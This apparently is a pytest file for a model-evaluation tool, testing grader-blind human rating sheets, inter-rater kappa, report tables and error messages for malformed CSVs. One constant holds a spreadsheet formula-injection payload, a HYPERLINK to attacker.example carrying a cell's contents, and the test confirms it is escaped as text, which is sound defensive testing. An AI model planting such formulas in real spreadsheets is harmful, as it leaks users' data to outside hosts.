"""The human audit and the hand-graded retest, end to end: a student probed against the loopback server,
grader-blind sheets written, filled here as raters would, read back into agreement, kappa and Tables
39-40 with values worked out by hand; a sheet with an unknown category or a missing family refused
naming file and row; a formula-looking answer written as text."""
from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from oracleladder.cli import app
from oracleladder.schemas import Family, to_released
from oracleladder.schemas.jsonl import read_jsonl, write_jsonl
from oracleladder.testing import LoopbackServer
from oracleladder.validators import reference_answer_problem

STUDENT = "openai/student-x"
FORMULA = '=HYPERLINK("http://attacker.example/?q="&C2, "see")'
N = 6  # families probed; all unrecovered but the last, which C3 solves


@pytest.fixture
def probed(tmp_path: Path, release_data: Path) -> tuple[Path, list[Family]]:
    fams = [f for f in read_jsonl(release_data / "families_sample.jsonl", Family)
            if reference_answer_problem(f) is None][:N]
    write_jsonl(tmp_path / "families.jsonl", (to_released(f) for f in fams))
    store = tmp_path / "s.sqlite"
    assert CliRunner().invoke(app, ["import", str(tmp_path / "families.jsonl"), "--store", str(store)]).exit_code == 0
    solved = fams[-1]

    def student(messages: list[dict], body: dict) -> str:
        text = messages[-1]["content"]
        if solved.parent_prompt in text and "\n\nAnswer: " in text:  # C3 of the last family: its milestone answers given
            return f"\\boxed{{{solved.parent_answer}}}"
        return f"{FORMULA} so \\boxed{{-987654321}}"

    with LoopbackServer(script=student) as server:
        result = CliRunner().invoke(app, ["probe", "--student", STUDENT, "--k", "2", "--conditions", "C1,C2,C3",
                                          "--store", str(store), "--base-url", server.openai_base_url])
    assert result.exit_code == 0, result.output
    return store, fams


def _rows(path: Path) -> list[dict]:
    return list(csv.DictReader(path.open(newline="", encoding="utf-8")))


def _write(path: Path, rows: list[dict]) -> None:
    """The sheet as a person saves it, with ``rows``."""
    with path.open("w", newline="", encoding="utf-8") as fh:
        out = csv.DictWriter(fh, fieldnames=list(rows[0]))
        out.writeheader()
        out.writerows(rows)


def _fill(path: Path, labels: dict[str, str]) -> None:
    _write(path, [{**row, "category": labels[row["family"]]} for row in _rows(path)])


def _read(folder: Path, *more: str):
    return CliRunner().invoke(app, ["audit", "human", "--read", str(folder), *more])


def test_sheets_round_trip_into_kappa_and_tables_39_40(probed: tuple[Path, list[Family]], tmp_path: Path) -> None:
    store, fams = probed
    folder = tmp_path / "audit"
    result = CliRunner().invoke(app, ["audit", "human", "--student", STUDENT, "--sheets", str(folder), "--store",
                                      str(store), "--validation", "3", "--seed", "1", "--json"])
    assert result.exit_code == 0, result.output
    key = json.loads(result.stdout)
    unrecovered = sorted(f.pid for f in fams[:-1])
    assert key["families"] == unrecovered and key["unrecovered"] == N - 1
    a, b, v = folder / "rater-a.csv", folder / "rater-b.csv", folder / "validation.csv"
    # grader-blind: no student, no verdict, no grader's reason; each rater's own order
    for sheet in (a, b, v):
        text = sheet.read_text()
        for word in (STUDENT, "ACCEPT", "not equivalent", "grader", "verifier"):
            assert word not in text
    assert _rows(a)[0].keys() == {"family", "problem", "reference_answer", "roadmap", "attempt_c1", "attempt_c2",
                                  "attempt_c3", "category", "reason"}
    order_a, order_b = [r["family"] for r in _rows(a)], [r["family"] for r in _rows(b)]
    assert sorted(order_a) == sorted(order_b) == unrecovered and order_a != order_b
    assert len(_rows(v)) == 3 and {r["family"] for r in _rows(v)} == set(key["validation"]["families"])
    # the formula-looking answer is text in the sheet (a leading quote) and reads back as the student wrote it
    raw = list(csv.reader(a.open(newline="", encoding="utf-8")))
    attempt = raw[1][raw[0].index("attempt_c1")]
    assert attempt.startswith("'=HYPERLINK(") and FORMULA in attempt
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in raw for cell in row)
    # the roadmap as C3 shows it, with the milestone answers
    first = next(f for f in fams if f.pid == order_a[0])
    assert _rows(a)[0]["roadmap"].startswith("Sub-goal 1: ")
    assert f"\n\nAnswer: {first.milestones[0].answer}\n\nSub-goal 2: " in _rows(a)[0]["roadmap"]

    # rater a and b: agree on 3 of 5; a: VA 2, DI 1, GC 2; b: VA 1, DI 2, GC 1, BC 1
    p = unrecovered
    la = {p[0]: "Verifier_Artifact", p[1]: "Verifier_Artifact", p[2]: "Decomposition_Incomplete",
          p[3]: "Genuine_Composition", p[4]: "genuine composition"}
    lb = {p[0]: "Verifier_Artifact", p[1]: "Decomposition_Incomplete", p[2]: "Decomposition_Incomplete",
          p[3]: "Genuine_Composition", p[4]: "Beyond_Capability"}
    _fill(a, la)
    _fill(b, lb)
    _fill(v, {q: "Verifier_Artifact" for q in p})
    read = _read(folder, "--json")
    assert read.exit_code == 0, read.output
    r = json.loads(read.stdout)
    # p_o = 3/5; p_e = (VA 2*1 + DI 1*2 + GC 2*1 + BC 0*1) / 25 = 6/25
    assert (r["agreement"]["agree"], r["agreement"]["raw"]) == (3, 0.6)
    assert r["agreement"]["kappa"] == pytest.approx((3 / 5 - 6 / 25) / (1 - 6 / 25))
    # the priority rule: VA over DI, BC over GC
    assert r["resolved_disagreements"] == {"Verifier_Artifact": 1, "Beyond_Capability": 1}
    assert r["table39"] == {"Decomposition_Incomplete": 1, "Verifier_Artifact": 2, "Genuine_Composition": 1,
                            "Beyond_Capability": 1, "Not_Standalone": 0}
    resolved = {q: r["labels"][q]["resolved"] for q in p}
    checked = key["validation"]["families"]
    agree = sum(resolved[q] == "Verifier_Artifact" for q in checked)
    assert (r["validation"]["n"], r["validation"]["agree"]) == (3, agree)
    # the user's order: a composition failure first
    mine = json.loads(_read(folder, "--json", "--priority", "Genuine_Composition,Decomposition_Incomplete,"
                            "Not_Standalone,Beyond_Capability,Verifier_Artifact").stdout)
    assert mine["resolved_disagreements"] == {"Decomposition_Incomplete": 1, "Genuine_Composition": 1}

    # Table 40: the two VA families repaired (one unlocked, one not applicable), the DI one still unrecovered
    vas = [q for q in p if resolved[q] == "Verifier_Artifact"]
    repairs = tmp_path / "repairs.csv"
    repairs.write_text(f"family,outcome\n{vas[0]},unlocked\n{vas[1]},not_applicable\n{p[2]},unrecovered\n")
    table = _read(folder, "--repairs", str(repairs), "--figure", str(tmp_path / "fig9.png"))
    assert table.exit_code == 0, table.output
    assert "| Artifact (verifier-repaired or leak-safe decomposition-repaired) | 2 |" in table.stdout
    assert "| Composition-related or unresolved after repair | 2 |" in table.stdout
    assert "at most 2+0=2 (40.0%" in table.stdout and "Cohen's kappa 0.47" in table.stdout
    assert (tmp_path / "fig9.png").read_bytes()[:4] == b"\x89PNG"

    # a repaired family kept as-is, and a repaired family without an outcome: file and row
    repairs.write_text(f"family,outcome\n{p[3]},unlocked\n")
    bad = _read(folder, "--repairs", str(repairs))
    assert bad.exit_code == 2 and f"{repairs}:2: family '{p[3]}' is Genuine_Composition, kept as-is" in bad.output
    # the sheets are never written over
    again = CliRunner().invoke(app, ["audit", "human", "--student", STUDENT, "--sheets", str(folder), "--store", str(store)])
    assert again.exit_code == 2 and "never overwritten" in again.output


def test_an_unknown_category_or_a_missing_family_is_one_line_with_file_and_row(
        probed: tuple[Path, list[Family]], tmp_path: Path) -> None:
    store, _ = probed
    folder = tmp_path / "audit"
    assert CliRunner().invoke(app, ["audit", "human", "--student", STUDENT, "--sheets", str(folder), "--store",
                                    str(store), "--sample", "3"]).exit_code == 0
    a, b = folder / "rater-a.csv", folder / "rater-b.csv"
    families = [r["family"] for r in _rows(a)]
    assert len(families) == 3
    _fill(b, {q: "Not_Standalone" for q in families})
    _fill(a, {families[0]: "Genuine_Composition", families[1]: "Probably fine", families[2]: "Not_Standalone"})
    result = _read(folder)
    assert result.exit_code == 2
    assert f"{a}:3: category 'Probably fine' is not one of Verifier_Artifact" in result.output
    assert len(result.output.strip().splitlines()) == 1

    _write(a, [{**row, "category": "Not_Standalone"} for row in _rows(a)[:2]])
    result = _read(folder)
    assert result.exit_code == 2 and f"{a}: family '{families[2]}' has no row" in result.output


def test_show_grader_names_the_student_and_the_verdicts(probed: tuple[Path, list[Family]], tmp_path: Path) -> None:
    store, _ = probed
    result = CliRunner().invoke(app, ["audit", "human", "--student", STUDENT, "--sheets", str(tmp_path / "a"),
                                      "--store", str(store), "--show-grader"])
    assert result.exit_code == 0, result.output
    row = _rows(tmp_path / "a" / "rater-a.csv")[0]
    assert row["student"] == STUDENT
    assert row["grader"].startswith("C1: NOT_ACCEPT (not equivalent") and "milestone 1: 0/2 alone" in row["grader"]


def test_the_retest_sheet_reads_back_into_hand_verdicts_apart(probed: tuple[Path, list[Family]], tmp_path: Path) -> None:
    store, fams = probed
    chosen = [fams[0].pid, fams[-1].pid]
    with LoopbackServer(script=lambda m, b: "\\boxed{7}") as server:
        raw = CliRunner().invoke(app, ["probe", "--student", STUDENT, "--k", "2", "--conditions", "C3", "--no-stage0",
                                       "--no-system-prompt", "--temperature", "0.7", "--pids", ",".join(chosen),
                                       "--store", str(store), "--base-url", server.openai_base_url, "--json"])
    assert raw.exit_code == 0, raw.output
    run = json.loads(raw.stdout)["run_id"]
    sheet = tmp_path / "retest.csv"
    result = CliRunner().invoke(app, ["audit", "retest", "--student", STUDENT, "--pids", ",".join(chosen),
                                      "--sheet", str(sheet), "--store", str(store), "--run", run, "--json"])
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["attempts"] == 4  # two families, C3, K = 2: the raw run's attempts only
    rows = _rows(sheet)
    assert {r["family"] for r in rows} == set(chosen) and {r["condition"] for r in rows} == {"C3"}
    assert all(r["response"] == "\\boxed{7}" and r["correct"] == "" for r in rows)
    assert "ACCEPT" not in sheet.read_text()
    # the person finds the first family's attempts right, the other's wrong
    for row in rows:
        row["correct"] = "yes" if row["family"] == chosen[0] else "no"
    _write(sheet, rows)
    read = CliRunner().invoke(app, ["audit", "retest", "--read", str(sheet), "--json"])
    assert read.exit_code == 0, read.output
    cells = {f["pid"]: f for f in json.loads(read.stdout)["families"]}
    assert (cells[chosen[0]]["hand"], cells[chosen[0]]["cascade"], cells[chosen[0]]["disagree"]) == (2, 0, 2)
    assert (cells[chosen[1]]["hand"], cells[chosen[1]]["cascade"], cells[chosen[1]]["disagree"]) == (0, 0, 0)
    verdicts = [json.loads(line) for line in (tmp_path / "retest.csv.verdicts.jsonl").read_text().splitlines()]
    assert len(verdicts) == 4 and {(v["hand"], v["cascade"]) for v in verdicts if v["pid"] == chosen[0]} == {
        ("ACCEPT", "NOT_ACCEPT")}
    text = CliRunner().invoke(app, ["audit", "retest", "--read", str(sheet)]).stdout
    assert f"| {chosen[0]} | C3 | 2 | 2 | 0 | 2 |" in text

    rows[1]["correct"] = "maybe"
    _write(sheet, rows)
    bad = CliRunner().invoke(app, ["audit", "retest", "--read", str(sheet)])
    assert bad.exit_code == 2 and f"{sheet}:3: correct 'maybe' is not yes or no" in bad.output
